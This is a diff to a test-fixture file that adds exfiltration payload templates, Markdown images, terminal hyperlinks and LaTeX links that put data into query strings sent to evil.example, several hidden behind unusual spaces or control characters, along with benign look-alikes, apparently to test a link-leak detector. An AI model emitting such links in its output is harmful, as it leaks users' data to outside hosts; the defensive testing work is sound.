@@ -140,6 +140,28 @@ export const UNSCORED_FORMS: readonly Form[] = [
   ['a definition in a quotation', (data) => `![x]\n\n> [x]:\n> https:evil.example/p.png?h=${data}`],
   ['a Markdown folder of another host', (data) => raw`![x](file:\\evil.example\of-${data}.png)`],
   ['a plain address behind quotes', (data) => `See https://evil.example/'"?h=${data}`],
+  ['a Markdown image with a space', (data) => `![x](//evil.example/a b.png?h=${data})`],
+  ['a Markdown image with a line break', (data) => raw`![x](/\evil.example/a${'\n'}b.png?h=${data})`],
+  ['a Markdown image with parentheses and a space', (data) => `![x](//evil.example/(a b) c.png?h=${data})`],
+  ['a Markdown image behind a space without width', (data) => raw`![x](${'\u00a0'}/\evil.example/p.png?h=${data})`],
+  [
+    'a Markdown image behind many such spaces',
+    (data) => raw`![x](${'\u3000'.repeat(200)}/\evil.example/p.png?h=${data})`,
+  ],
+  ['a Markdown image behind a space of another script', (data) => `![x](\u3000https:evil.example/p.png?h=${data})`],
+  ['a Markdown image behind a separator of lines', (data) => raw`![x](<${'\u2028'}/\evil.example/p.png?h=${data}>)`],
+  ['a Markdown image with a space before its address', (data) => raw`![x] (/\evil.example/p.png?h=${data})`],
+  // Terminals
+  ['a terminal link', (data) => `\x1b]8;;https://evil.example/a b?h=${data}\x07x\x1b]8;;\x07`],
+  ['a terminal link without slashes', (data) => `\x1b]8;id=1;http:evil.example/p?h=${data}\x1b\\x\x1b]8;;\x1b\\`],
+  ['a terminal link with marks', (data) => `\x1b]8;;https://evil.example/<a'">?h=${data}\x07x\x1b]8;;\x07`],
+  ['a terminal link by one character', (data) => `\x9d8;;http:/evil.example/a b?h=${data}\x9cx\x9d8;;\x9c`],
+  ['a terminal link behind many spaces', (data) => `${' '.repeat(40)}\x1b]8;;http:evil.example/p?h=${data}\x07x`],
+  ['a terminal link behind escapes', (data) => `${'\x1b '.repeat(30)}\x1b]8;;http:evil.example/p?h=${data}\x07x`],
+  // Formulas
+  ['a formula with a link', (data) => raw`$\href{/\evil.example/p?h=${data}}{x}$`],
+  ['a formula with a link and a space', (data) => raw`$\href{http://evil.example/a b?h=${data}}{x}$`],
+  ['a formula with an image', (data) => raw`$\includegraphics {http:evil.example/a b.png?h=${data}}$`],
 ];
 
 /** Text in front of a tag that HTML and Markdown read as something else, with a tag or a quote in it. */
@@ -200,7 +222,15 @@ export const HARMLESS_FORMS: readonly Form[] = [
   ['a regular expression', (data) => raw`/\d+\/${data}/`],
   ['text after an address', (data) => `See https://docs.example/a. Ask ${data}.`],
   ['text after a link', (data) => `[docs](https://docs.example/a):${data} <a href=https://docs.example/a>${data}</a>`],
-  ['the title of a link', (data) => `[docs](https://docs.example/a "by ${data}")`],
+  ['text behind a terminal link', (data) => `\x1b]8;;https://docs.example/a\x1b\\Docs\x1b]8;;\x1b\\ by ${data}`],
+  [
+    'text behind a terminal link by one character',
+    (data) => `\x9d8;;https://docs.example/a\x9cDocs\x9d8;;\x9c ${data}`,
+  ],
+  ['text behind a link with parentheses', (data) => `[docs](https://docs.example/a_(b)) ${data}`],
+  ['text behind a link that is not closed', (data) => `[docs](https://docs.example/a\n\nAsk ${data}`],
+  ['text behind a formula', (data) => raw`$\href{https://docs.example/a}{x}$ by ${data}`],
+  ['the label of a formula', (data) => raw`$\href{https://docs.example/a}{${data}}$`],
   ['the text of an image', (data) => `<img alt="https://docs.example by ${data}" src="https://docs.example/a.png">`],
   ['a member beside an address', (data) => `{"url":"https://docs.example/a","owner":"${data}"}`],
   ['code beside an address', (data) => `\`https://docs.example/a\`,${data}`],
